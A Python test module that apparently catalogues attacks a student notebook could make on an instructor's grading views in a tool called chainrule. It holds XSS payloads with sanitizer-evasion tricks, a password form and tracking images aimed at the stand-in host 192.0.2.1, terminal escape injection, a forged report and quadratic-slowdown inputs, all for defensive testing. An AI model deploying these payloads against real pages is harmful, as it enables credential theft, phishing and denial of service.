"""Turn on the instructor: scripts and requests in what the formgrader, the feedback page, the report and a CSV show."""

from __future__ import annotations

from chainrule.attacks.attack import Attack, Shown


def mark(name: str) -> str:
    """By what an attack is found again on a page."""
    return f"shown-{name}"


def _prose(name: str, tries: str, source: str) -> Shown:
    return Shown(name=name, tries=tries, source=source.replace("NAME", mark(name)), kind="markdown")


def _html(name: str, tries: str, html: str) -> Shown:
    """HTML as a result."""
    return Shown(
        name=name,
        tries=tries,
        source=f"from IPython.display import HTML, display\ndisplay(HTML({html.replace('NAME', mark(name))!r}))",
    )


def _data(name: str, tries: str, kind: str, data: object) -> Shown:
    """A result of another type."""
    text = repr({kind: data, "text/plain": "x"}).replace("NAME", mark(name))
    return Shown(name=name, tries=tries, source=f"from IPython.display import display\ndisplay({text}, raw=True)")


PROSE: tuple[Attack, ...] = (
    _prose("script_in_prose", "Prose runs a script.", "<script>alert('NAME')</script>"),
    _prose(
        "handler_in_prose",
        "A picture that is not there runs a script.",
        '<img src="nowhere" onerror="alert(\'NAME\')">',
    ),
    _prose("script_link", "A link runs a script.", "[look](javascript:alert('NAME'))"),
    _prose(
        "script_link_in_capitals",
        "The same, written so that a search does not find it.",
        "[look](JaVaScRiPt:alert('NAME'))",
    ),
    _prose("script_link_by_entity", "The same, with a letter as an entity.", "[look](javascript&#58;alert('NAME'))"),
    _prose(
        "script_link_with_a_tab", "The same, with a tab in the word.", "<a href=\"java\tscript:alert('NAME')\">look</a>"
    ),
    _prose(
        "script_link_by_reference",
        "A link whose address is elsewhere runs a script.",
        """\
[look][NAME]

[NAME]: javascript:alert('NAME')""",
    ),
    _prose("script_link_in_brackets", "An address in angle brackets runs a script.", "<javascript:alert('NAME')>"),
    _prose(
        "data_link",
        "A link opens a page that is in the link itself.",
        "[look](data:text/html,<script>alert('NAME')</script>)",
    ),
    _prose("vbscript_link", "A link runs a script of another kind.", "[look](vbscript:msgbox('NAME'))"),
    _prose(
        "picture_from_elsewhere",
        "A picture tells another server who looks at it.",
        "![look](http://192.0.2.1/NAME.png)",
    ),
    _prose("picture_by_reference", "The same by a reference.", "![look][NAME]\n\n[NAME]: http://192.0.2.1/NAME.png"),
    _prose("frame", "A frame shows another page.", '<iframe src="http://192.0.2.1/NAME"></iframe>'),
    _prose(
        "object",
        "An object is loaded from elsewhere.",
        '<object data="http://192.0.2.1/NAME"></object><embed src="http://192.0.2.1/NAME">',
    ),
    _prose(
        "form",
        "A form sends what is typed elsewhere.",
        '<form action="http://192.0.2.1/NAME"><input name="password"><button>Log in</button></form>',
    ),
    _prose(
        "style_sheet",
        "A style sheet is loaded from elsewhere.",
        '<link rel="stylesheet" href="http://192.0.2.1/NAME.css">',
    ),
    _prose(
        "style",
        "A style covers the page with a picture from elsewhere.",
        '<div style="position:fixed;inset:0;background:url(http://192.0.2.1/NAME.png)">x</div>',
    ),
    _prose(
        "style_element",
        "A style element loads a picture from elsewhere.",
        "<style>body { background: url(http://192.0.2.1/NAME.png) }</style>",
    ),
    _prose("base", "All links of the page lead elsewhere.", '<base href="http://192.0.2.1/NAME/">'),
    _prose(
        "refresh",
        "The page goes elsewhere by itself.",
        '<meta http-equiv="refresh" content="0;url=http://192.0.2.1/NAME">',
    ),
    _prose(
        "vector_script",
        "A drawing runs a script.",
        "<svg onload=\"alert('NAME')\"><script>alert('NAME')</script></svg>",
    ),
    _prose(
        "vector_link",
        "A drawing's link runs a script.",
        "<svg><a xlink:href=\"javascript:alert('NAME')\"><text>look</text></a></svg>",
    ),
    _prose(
        "mathml_link",
        "A formula's link runs a script.",
        "<math><mi xlink:href=\"javascript:alert('NAME')\">x</mi></math>",
    ),
    _prose("formula_link", "A formula in TeX is a link that runs a script.", "$\\href{javascript:alert('NAME')}{x}$"),
    _prose(
        "broken_tag",
        "A tag is cut off, so that what comes after becomes part of it.",
        """\
<div><img src=x onerror=alert('NAME')

# x""",
    ),
    _prose("hidden_in_a_comment", "A comment ends early.", "<!--><img src=x onerror=alert('NAME')>-->"),
    _prose(
        "hidden_in_a_title",
        "An element of text only hides a script from a sanitizer.",
        "<noscript><p title=\"</noscript><img src=x onerror=alert('NAME')>\">",
    ),
    _prose(
        "hidden_in_a_template",
        "A template hides a script.",
        "<template><img src=x onerror=alert('NAME')></template><details open ontoggle=\"alert('NAME')\">x</details>",
    ),
    _prose(
        "heading",
        "The anchor of a heading runs a script.",
        "# x <a href=\"javascript:alert('NAME')\" onclick=\"alert('NAME')\">NAME</a>",
    ),
    _prose(
        "report_imitated",
        "Prose looks like the report.",
        '<div class="chainrule-report" title="NAME"><b>100 of 100 points</b></div>',
    ),
)

RESULTS: tuple[Attack, ...] = (
    _html("script_in_a_result", "A result runs a script.", "<script>alert('NAME')</script>"),
    _html(
        "handler_in_a_result",
        "A result runs a script when it is looked at.",
        "<img src=nowhere onerror=\"alert('NAME')\">",
    ),
    _html(
        "request_in_a_result", "A result tells another server who looks at it.", '<img src="http://192.0.2.1/NAME.png">'
    ),
    _html(
        "frame_in_a_result",
        "A result shows another page.",
        "<iframe srcdoc=\"<script>alert('NAME')</script>\"></iframe>",
    ),
    _html("link_in_a_result", "A result's link runs a script.", "<a href=\"javascript:alert('NAME')\">look</a>"),
    _data("javascript_result", "A result is a script.", "application/javascript", "alert('NAME')"),
    _data(
        "drawing_result",
        "A result is a drawing with a script.",
        "image/svg+xml",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert('NAME')\"><script>alert('NAME')</script></svg>",
    ),
    _data(
        "formula_result", "A result is a formula with a link.", "text/latex", "$\\href{javascript:alert('NAME')}{x}$"
    ),
    _data(
        "prose_result",
        "A result is prose with a link.",
        "text/markdown",
        "[look](javascript:alert('NAME')) <img src=x onerror=\"alert('NAME')\">",
    ),
    _data(
        "picture_result", "A picture's data closes its element.", "image/png", "\"><img src=x onerror=alert('NAME')>"
    ),
    _data(
        "picture_of_another_type",
        "A result's type is a script.",
        "text/html; charset=<script>alert('NAME')</script>",
        "x",
    ),
    _data(
        "widget_result",
        "A result is a widget's state.",
        "application/vnd.jupyter.widget-view+json",
        {"model_id": "\"><img src=x onerror=alert('NAME')>", "version_major": 2, "version_minor": 0},
    ),
    _data(
        "plot_result",
        "A result is drawn by a script from elsewhere.",
        "application/vnd.plotly.v1+json",
        {"data": [], "layout": {"title": "NAME"}},
    ),
    Shown(
        name="picture_size",
        tries="A picture's size closes its element.",
        source="""\
from IPython.display import display
display({'image/png': 'iVBORw0KGgo='}, raw=True, metadata={'image/png': {'width': '"><img src=x onerror=alert("shown-picture_size")>', 'height': 1}})""",
    ),
    Shown(
        name="escapes",
        tries="What is printed clears the instructor's terminal and sets its title.",
        source="print('\\x1b[2J\\x1b]0;shown-escapes\\x07\\x1b]8;;javascript:alert(\"shown-escapes\")\\x07look\\x1b]8;;\\x07')",
    ),
    Shown(
        name="colours",
        tries="What is printed in colours closes its element.",
        source='print(\'\\x1b[31;"><img src=x onerror=alert(`shown-colours`)>m<img src=x onerror=alert("shown-colours")>\\x1b[0m\')',
    ),
    Shown(
        name="ten_megabytes",
        tries="A result of ten megabytes makes the page unusable.",
        source="""\
from IPython.display import HTML, display
display(HTML('<b>shown-ten_megabytes</b>' * 550_000))""",
    ),
    Shown(
        name="error_in_html",
        tries="An exception's name and text are HTML.",
        source="raise type('<img src=x onerror=alert(`shown-error_in_html`)>', (Exception,), {})('<script>alert(\"shown-error_in_html\")</script>')",
    ),
)


def _slow(name: str, tries: str, source: str) -> Shown:
    return Shown(name=name, tries=tries, source=source, kind="slow")


SLOW: tuple[Attack, ...] = (
    _slow("open_lists", "Lists are opened and never closed, on which a sanitizer is quadratic.", "<ul><li>" * 40_000),
    _slow(
        "open_tex",
        "Environments of TeX are opened and never closed, on which a converter of Markdown is quadratic.",
        "\\begin{a}" * 8_000,
    ),
    _slow("open_brackets", "Links are opened and never closed.", "[" * 50_000),
    _slow("open_pictures", "Pictures are opened and never closed.", "![](" * 20_000),
    _slow("open_emphasis", "Emphasis is opened and never closed.", "*a **b _c __d " * 5_000),
    _slow("open_tags", "Tags are opened and never closed.", "<a href='" * 20_000),
    _slow("open_comments", "Comments are opened and never closed.", "<!--" * 20_000),
    _slow("open_code", "Code is opened by ever more quotes.", "".join("`" * number + "a" for number in range(400))),
    _slow("deep_quotes", "Quotations are nested.", "> " * 3_000 + "x"),
    _slow("deep_markup", "Elements are nested.", "<div>" * 20_000 + "x"),
    _slow("entities", "Entities are begun and never ended.", "&#x" * 50_000),
    _slow(
        "references",
        "Thousands of references lead to thousands of places.",
        """

""".join(f"[{number}]: http://x/{number}\n\n[a][{number}]" for number in range(4_000)),
    ),
    _slow("one_long_line", "A line is ten million letters long.", "a " * 5_000_000),
)

MESSAGES: tuple[Attack, ...] = (
    Shown(
        name="script_in_a_message",
        tries="An exception's text in the report runs a script.",
        source="<script>alert('shown-script_in_a_message')</script><img src=x onerror=alert('shown-script_in_a_message')>",
        kind="message",
    ),
    Shown(
        name="link_in_a_message",
        tries="An exception's text in the report is a link in Markdown.",
        source="[look](javascript:alert('shown-link_in_a_message')) | x |",
        kind="message",
    ),
    Shown(
        name="escapes_in_a_message",
        tries="An exception's text clears the instructor's terminal.",
        source="\x1b[2J\x1b]0;shown-escapes_in_a_message\x07",
        kind="message",
    ),
)

ATTACKS = (*PROSE, *RESULTS, *SLOW, *MESSAGES)
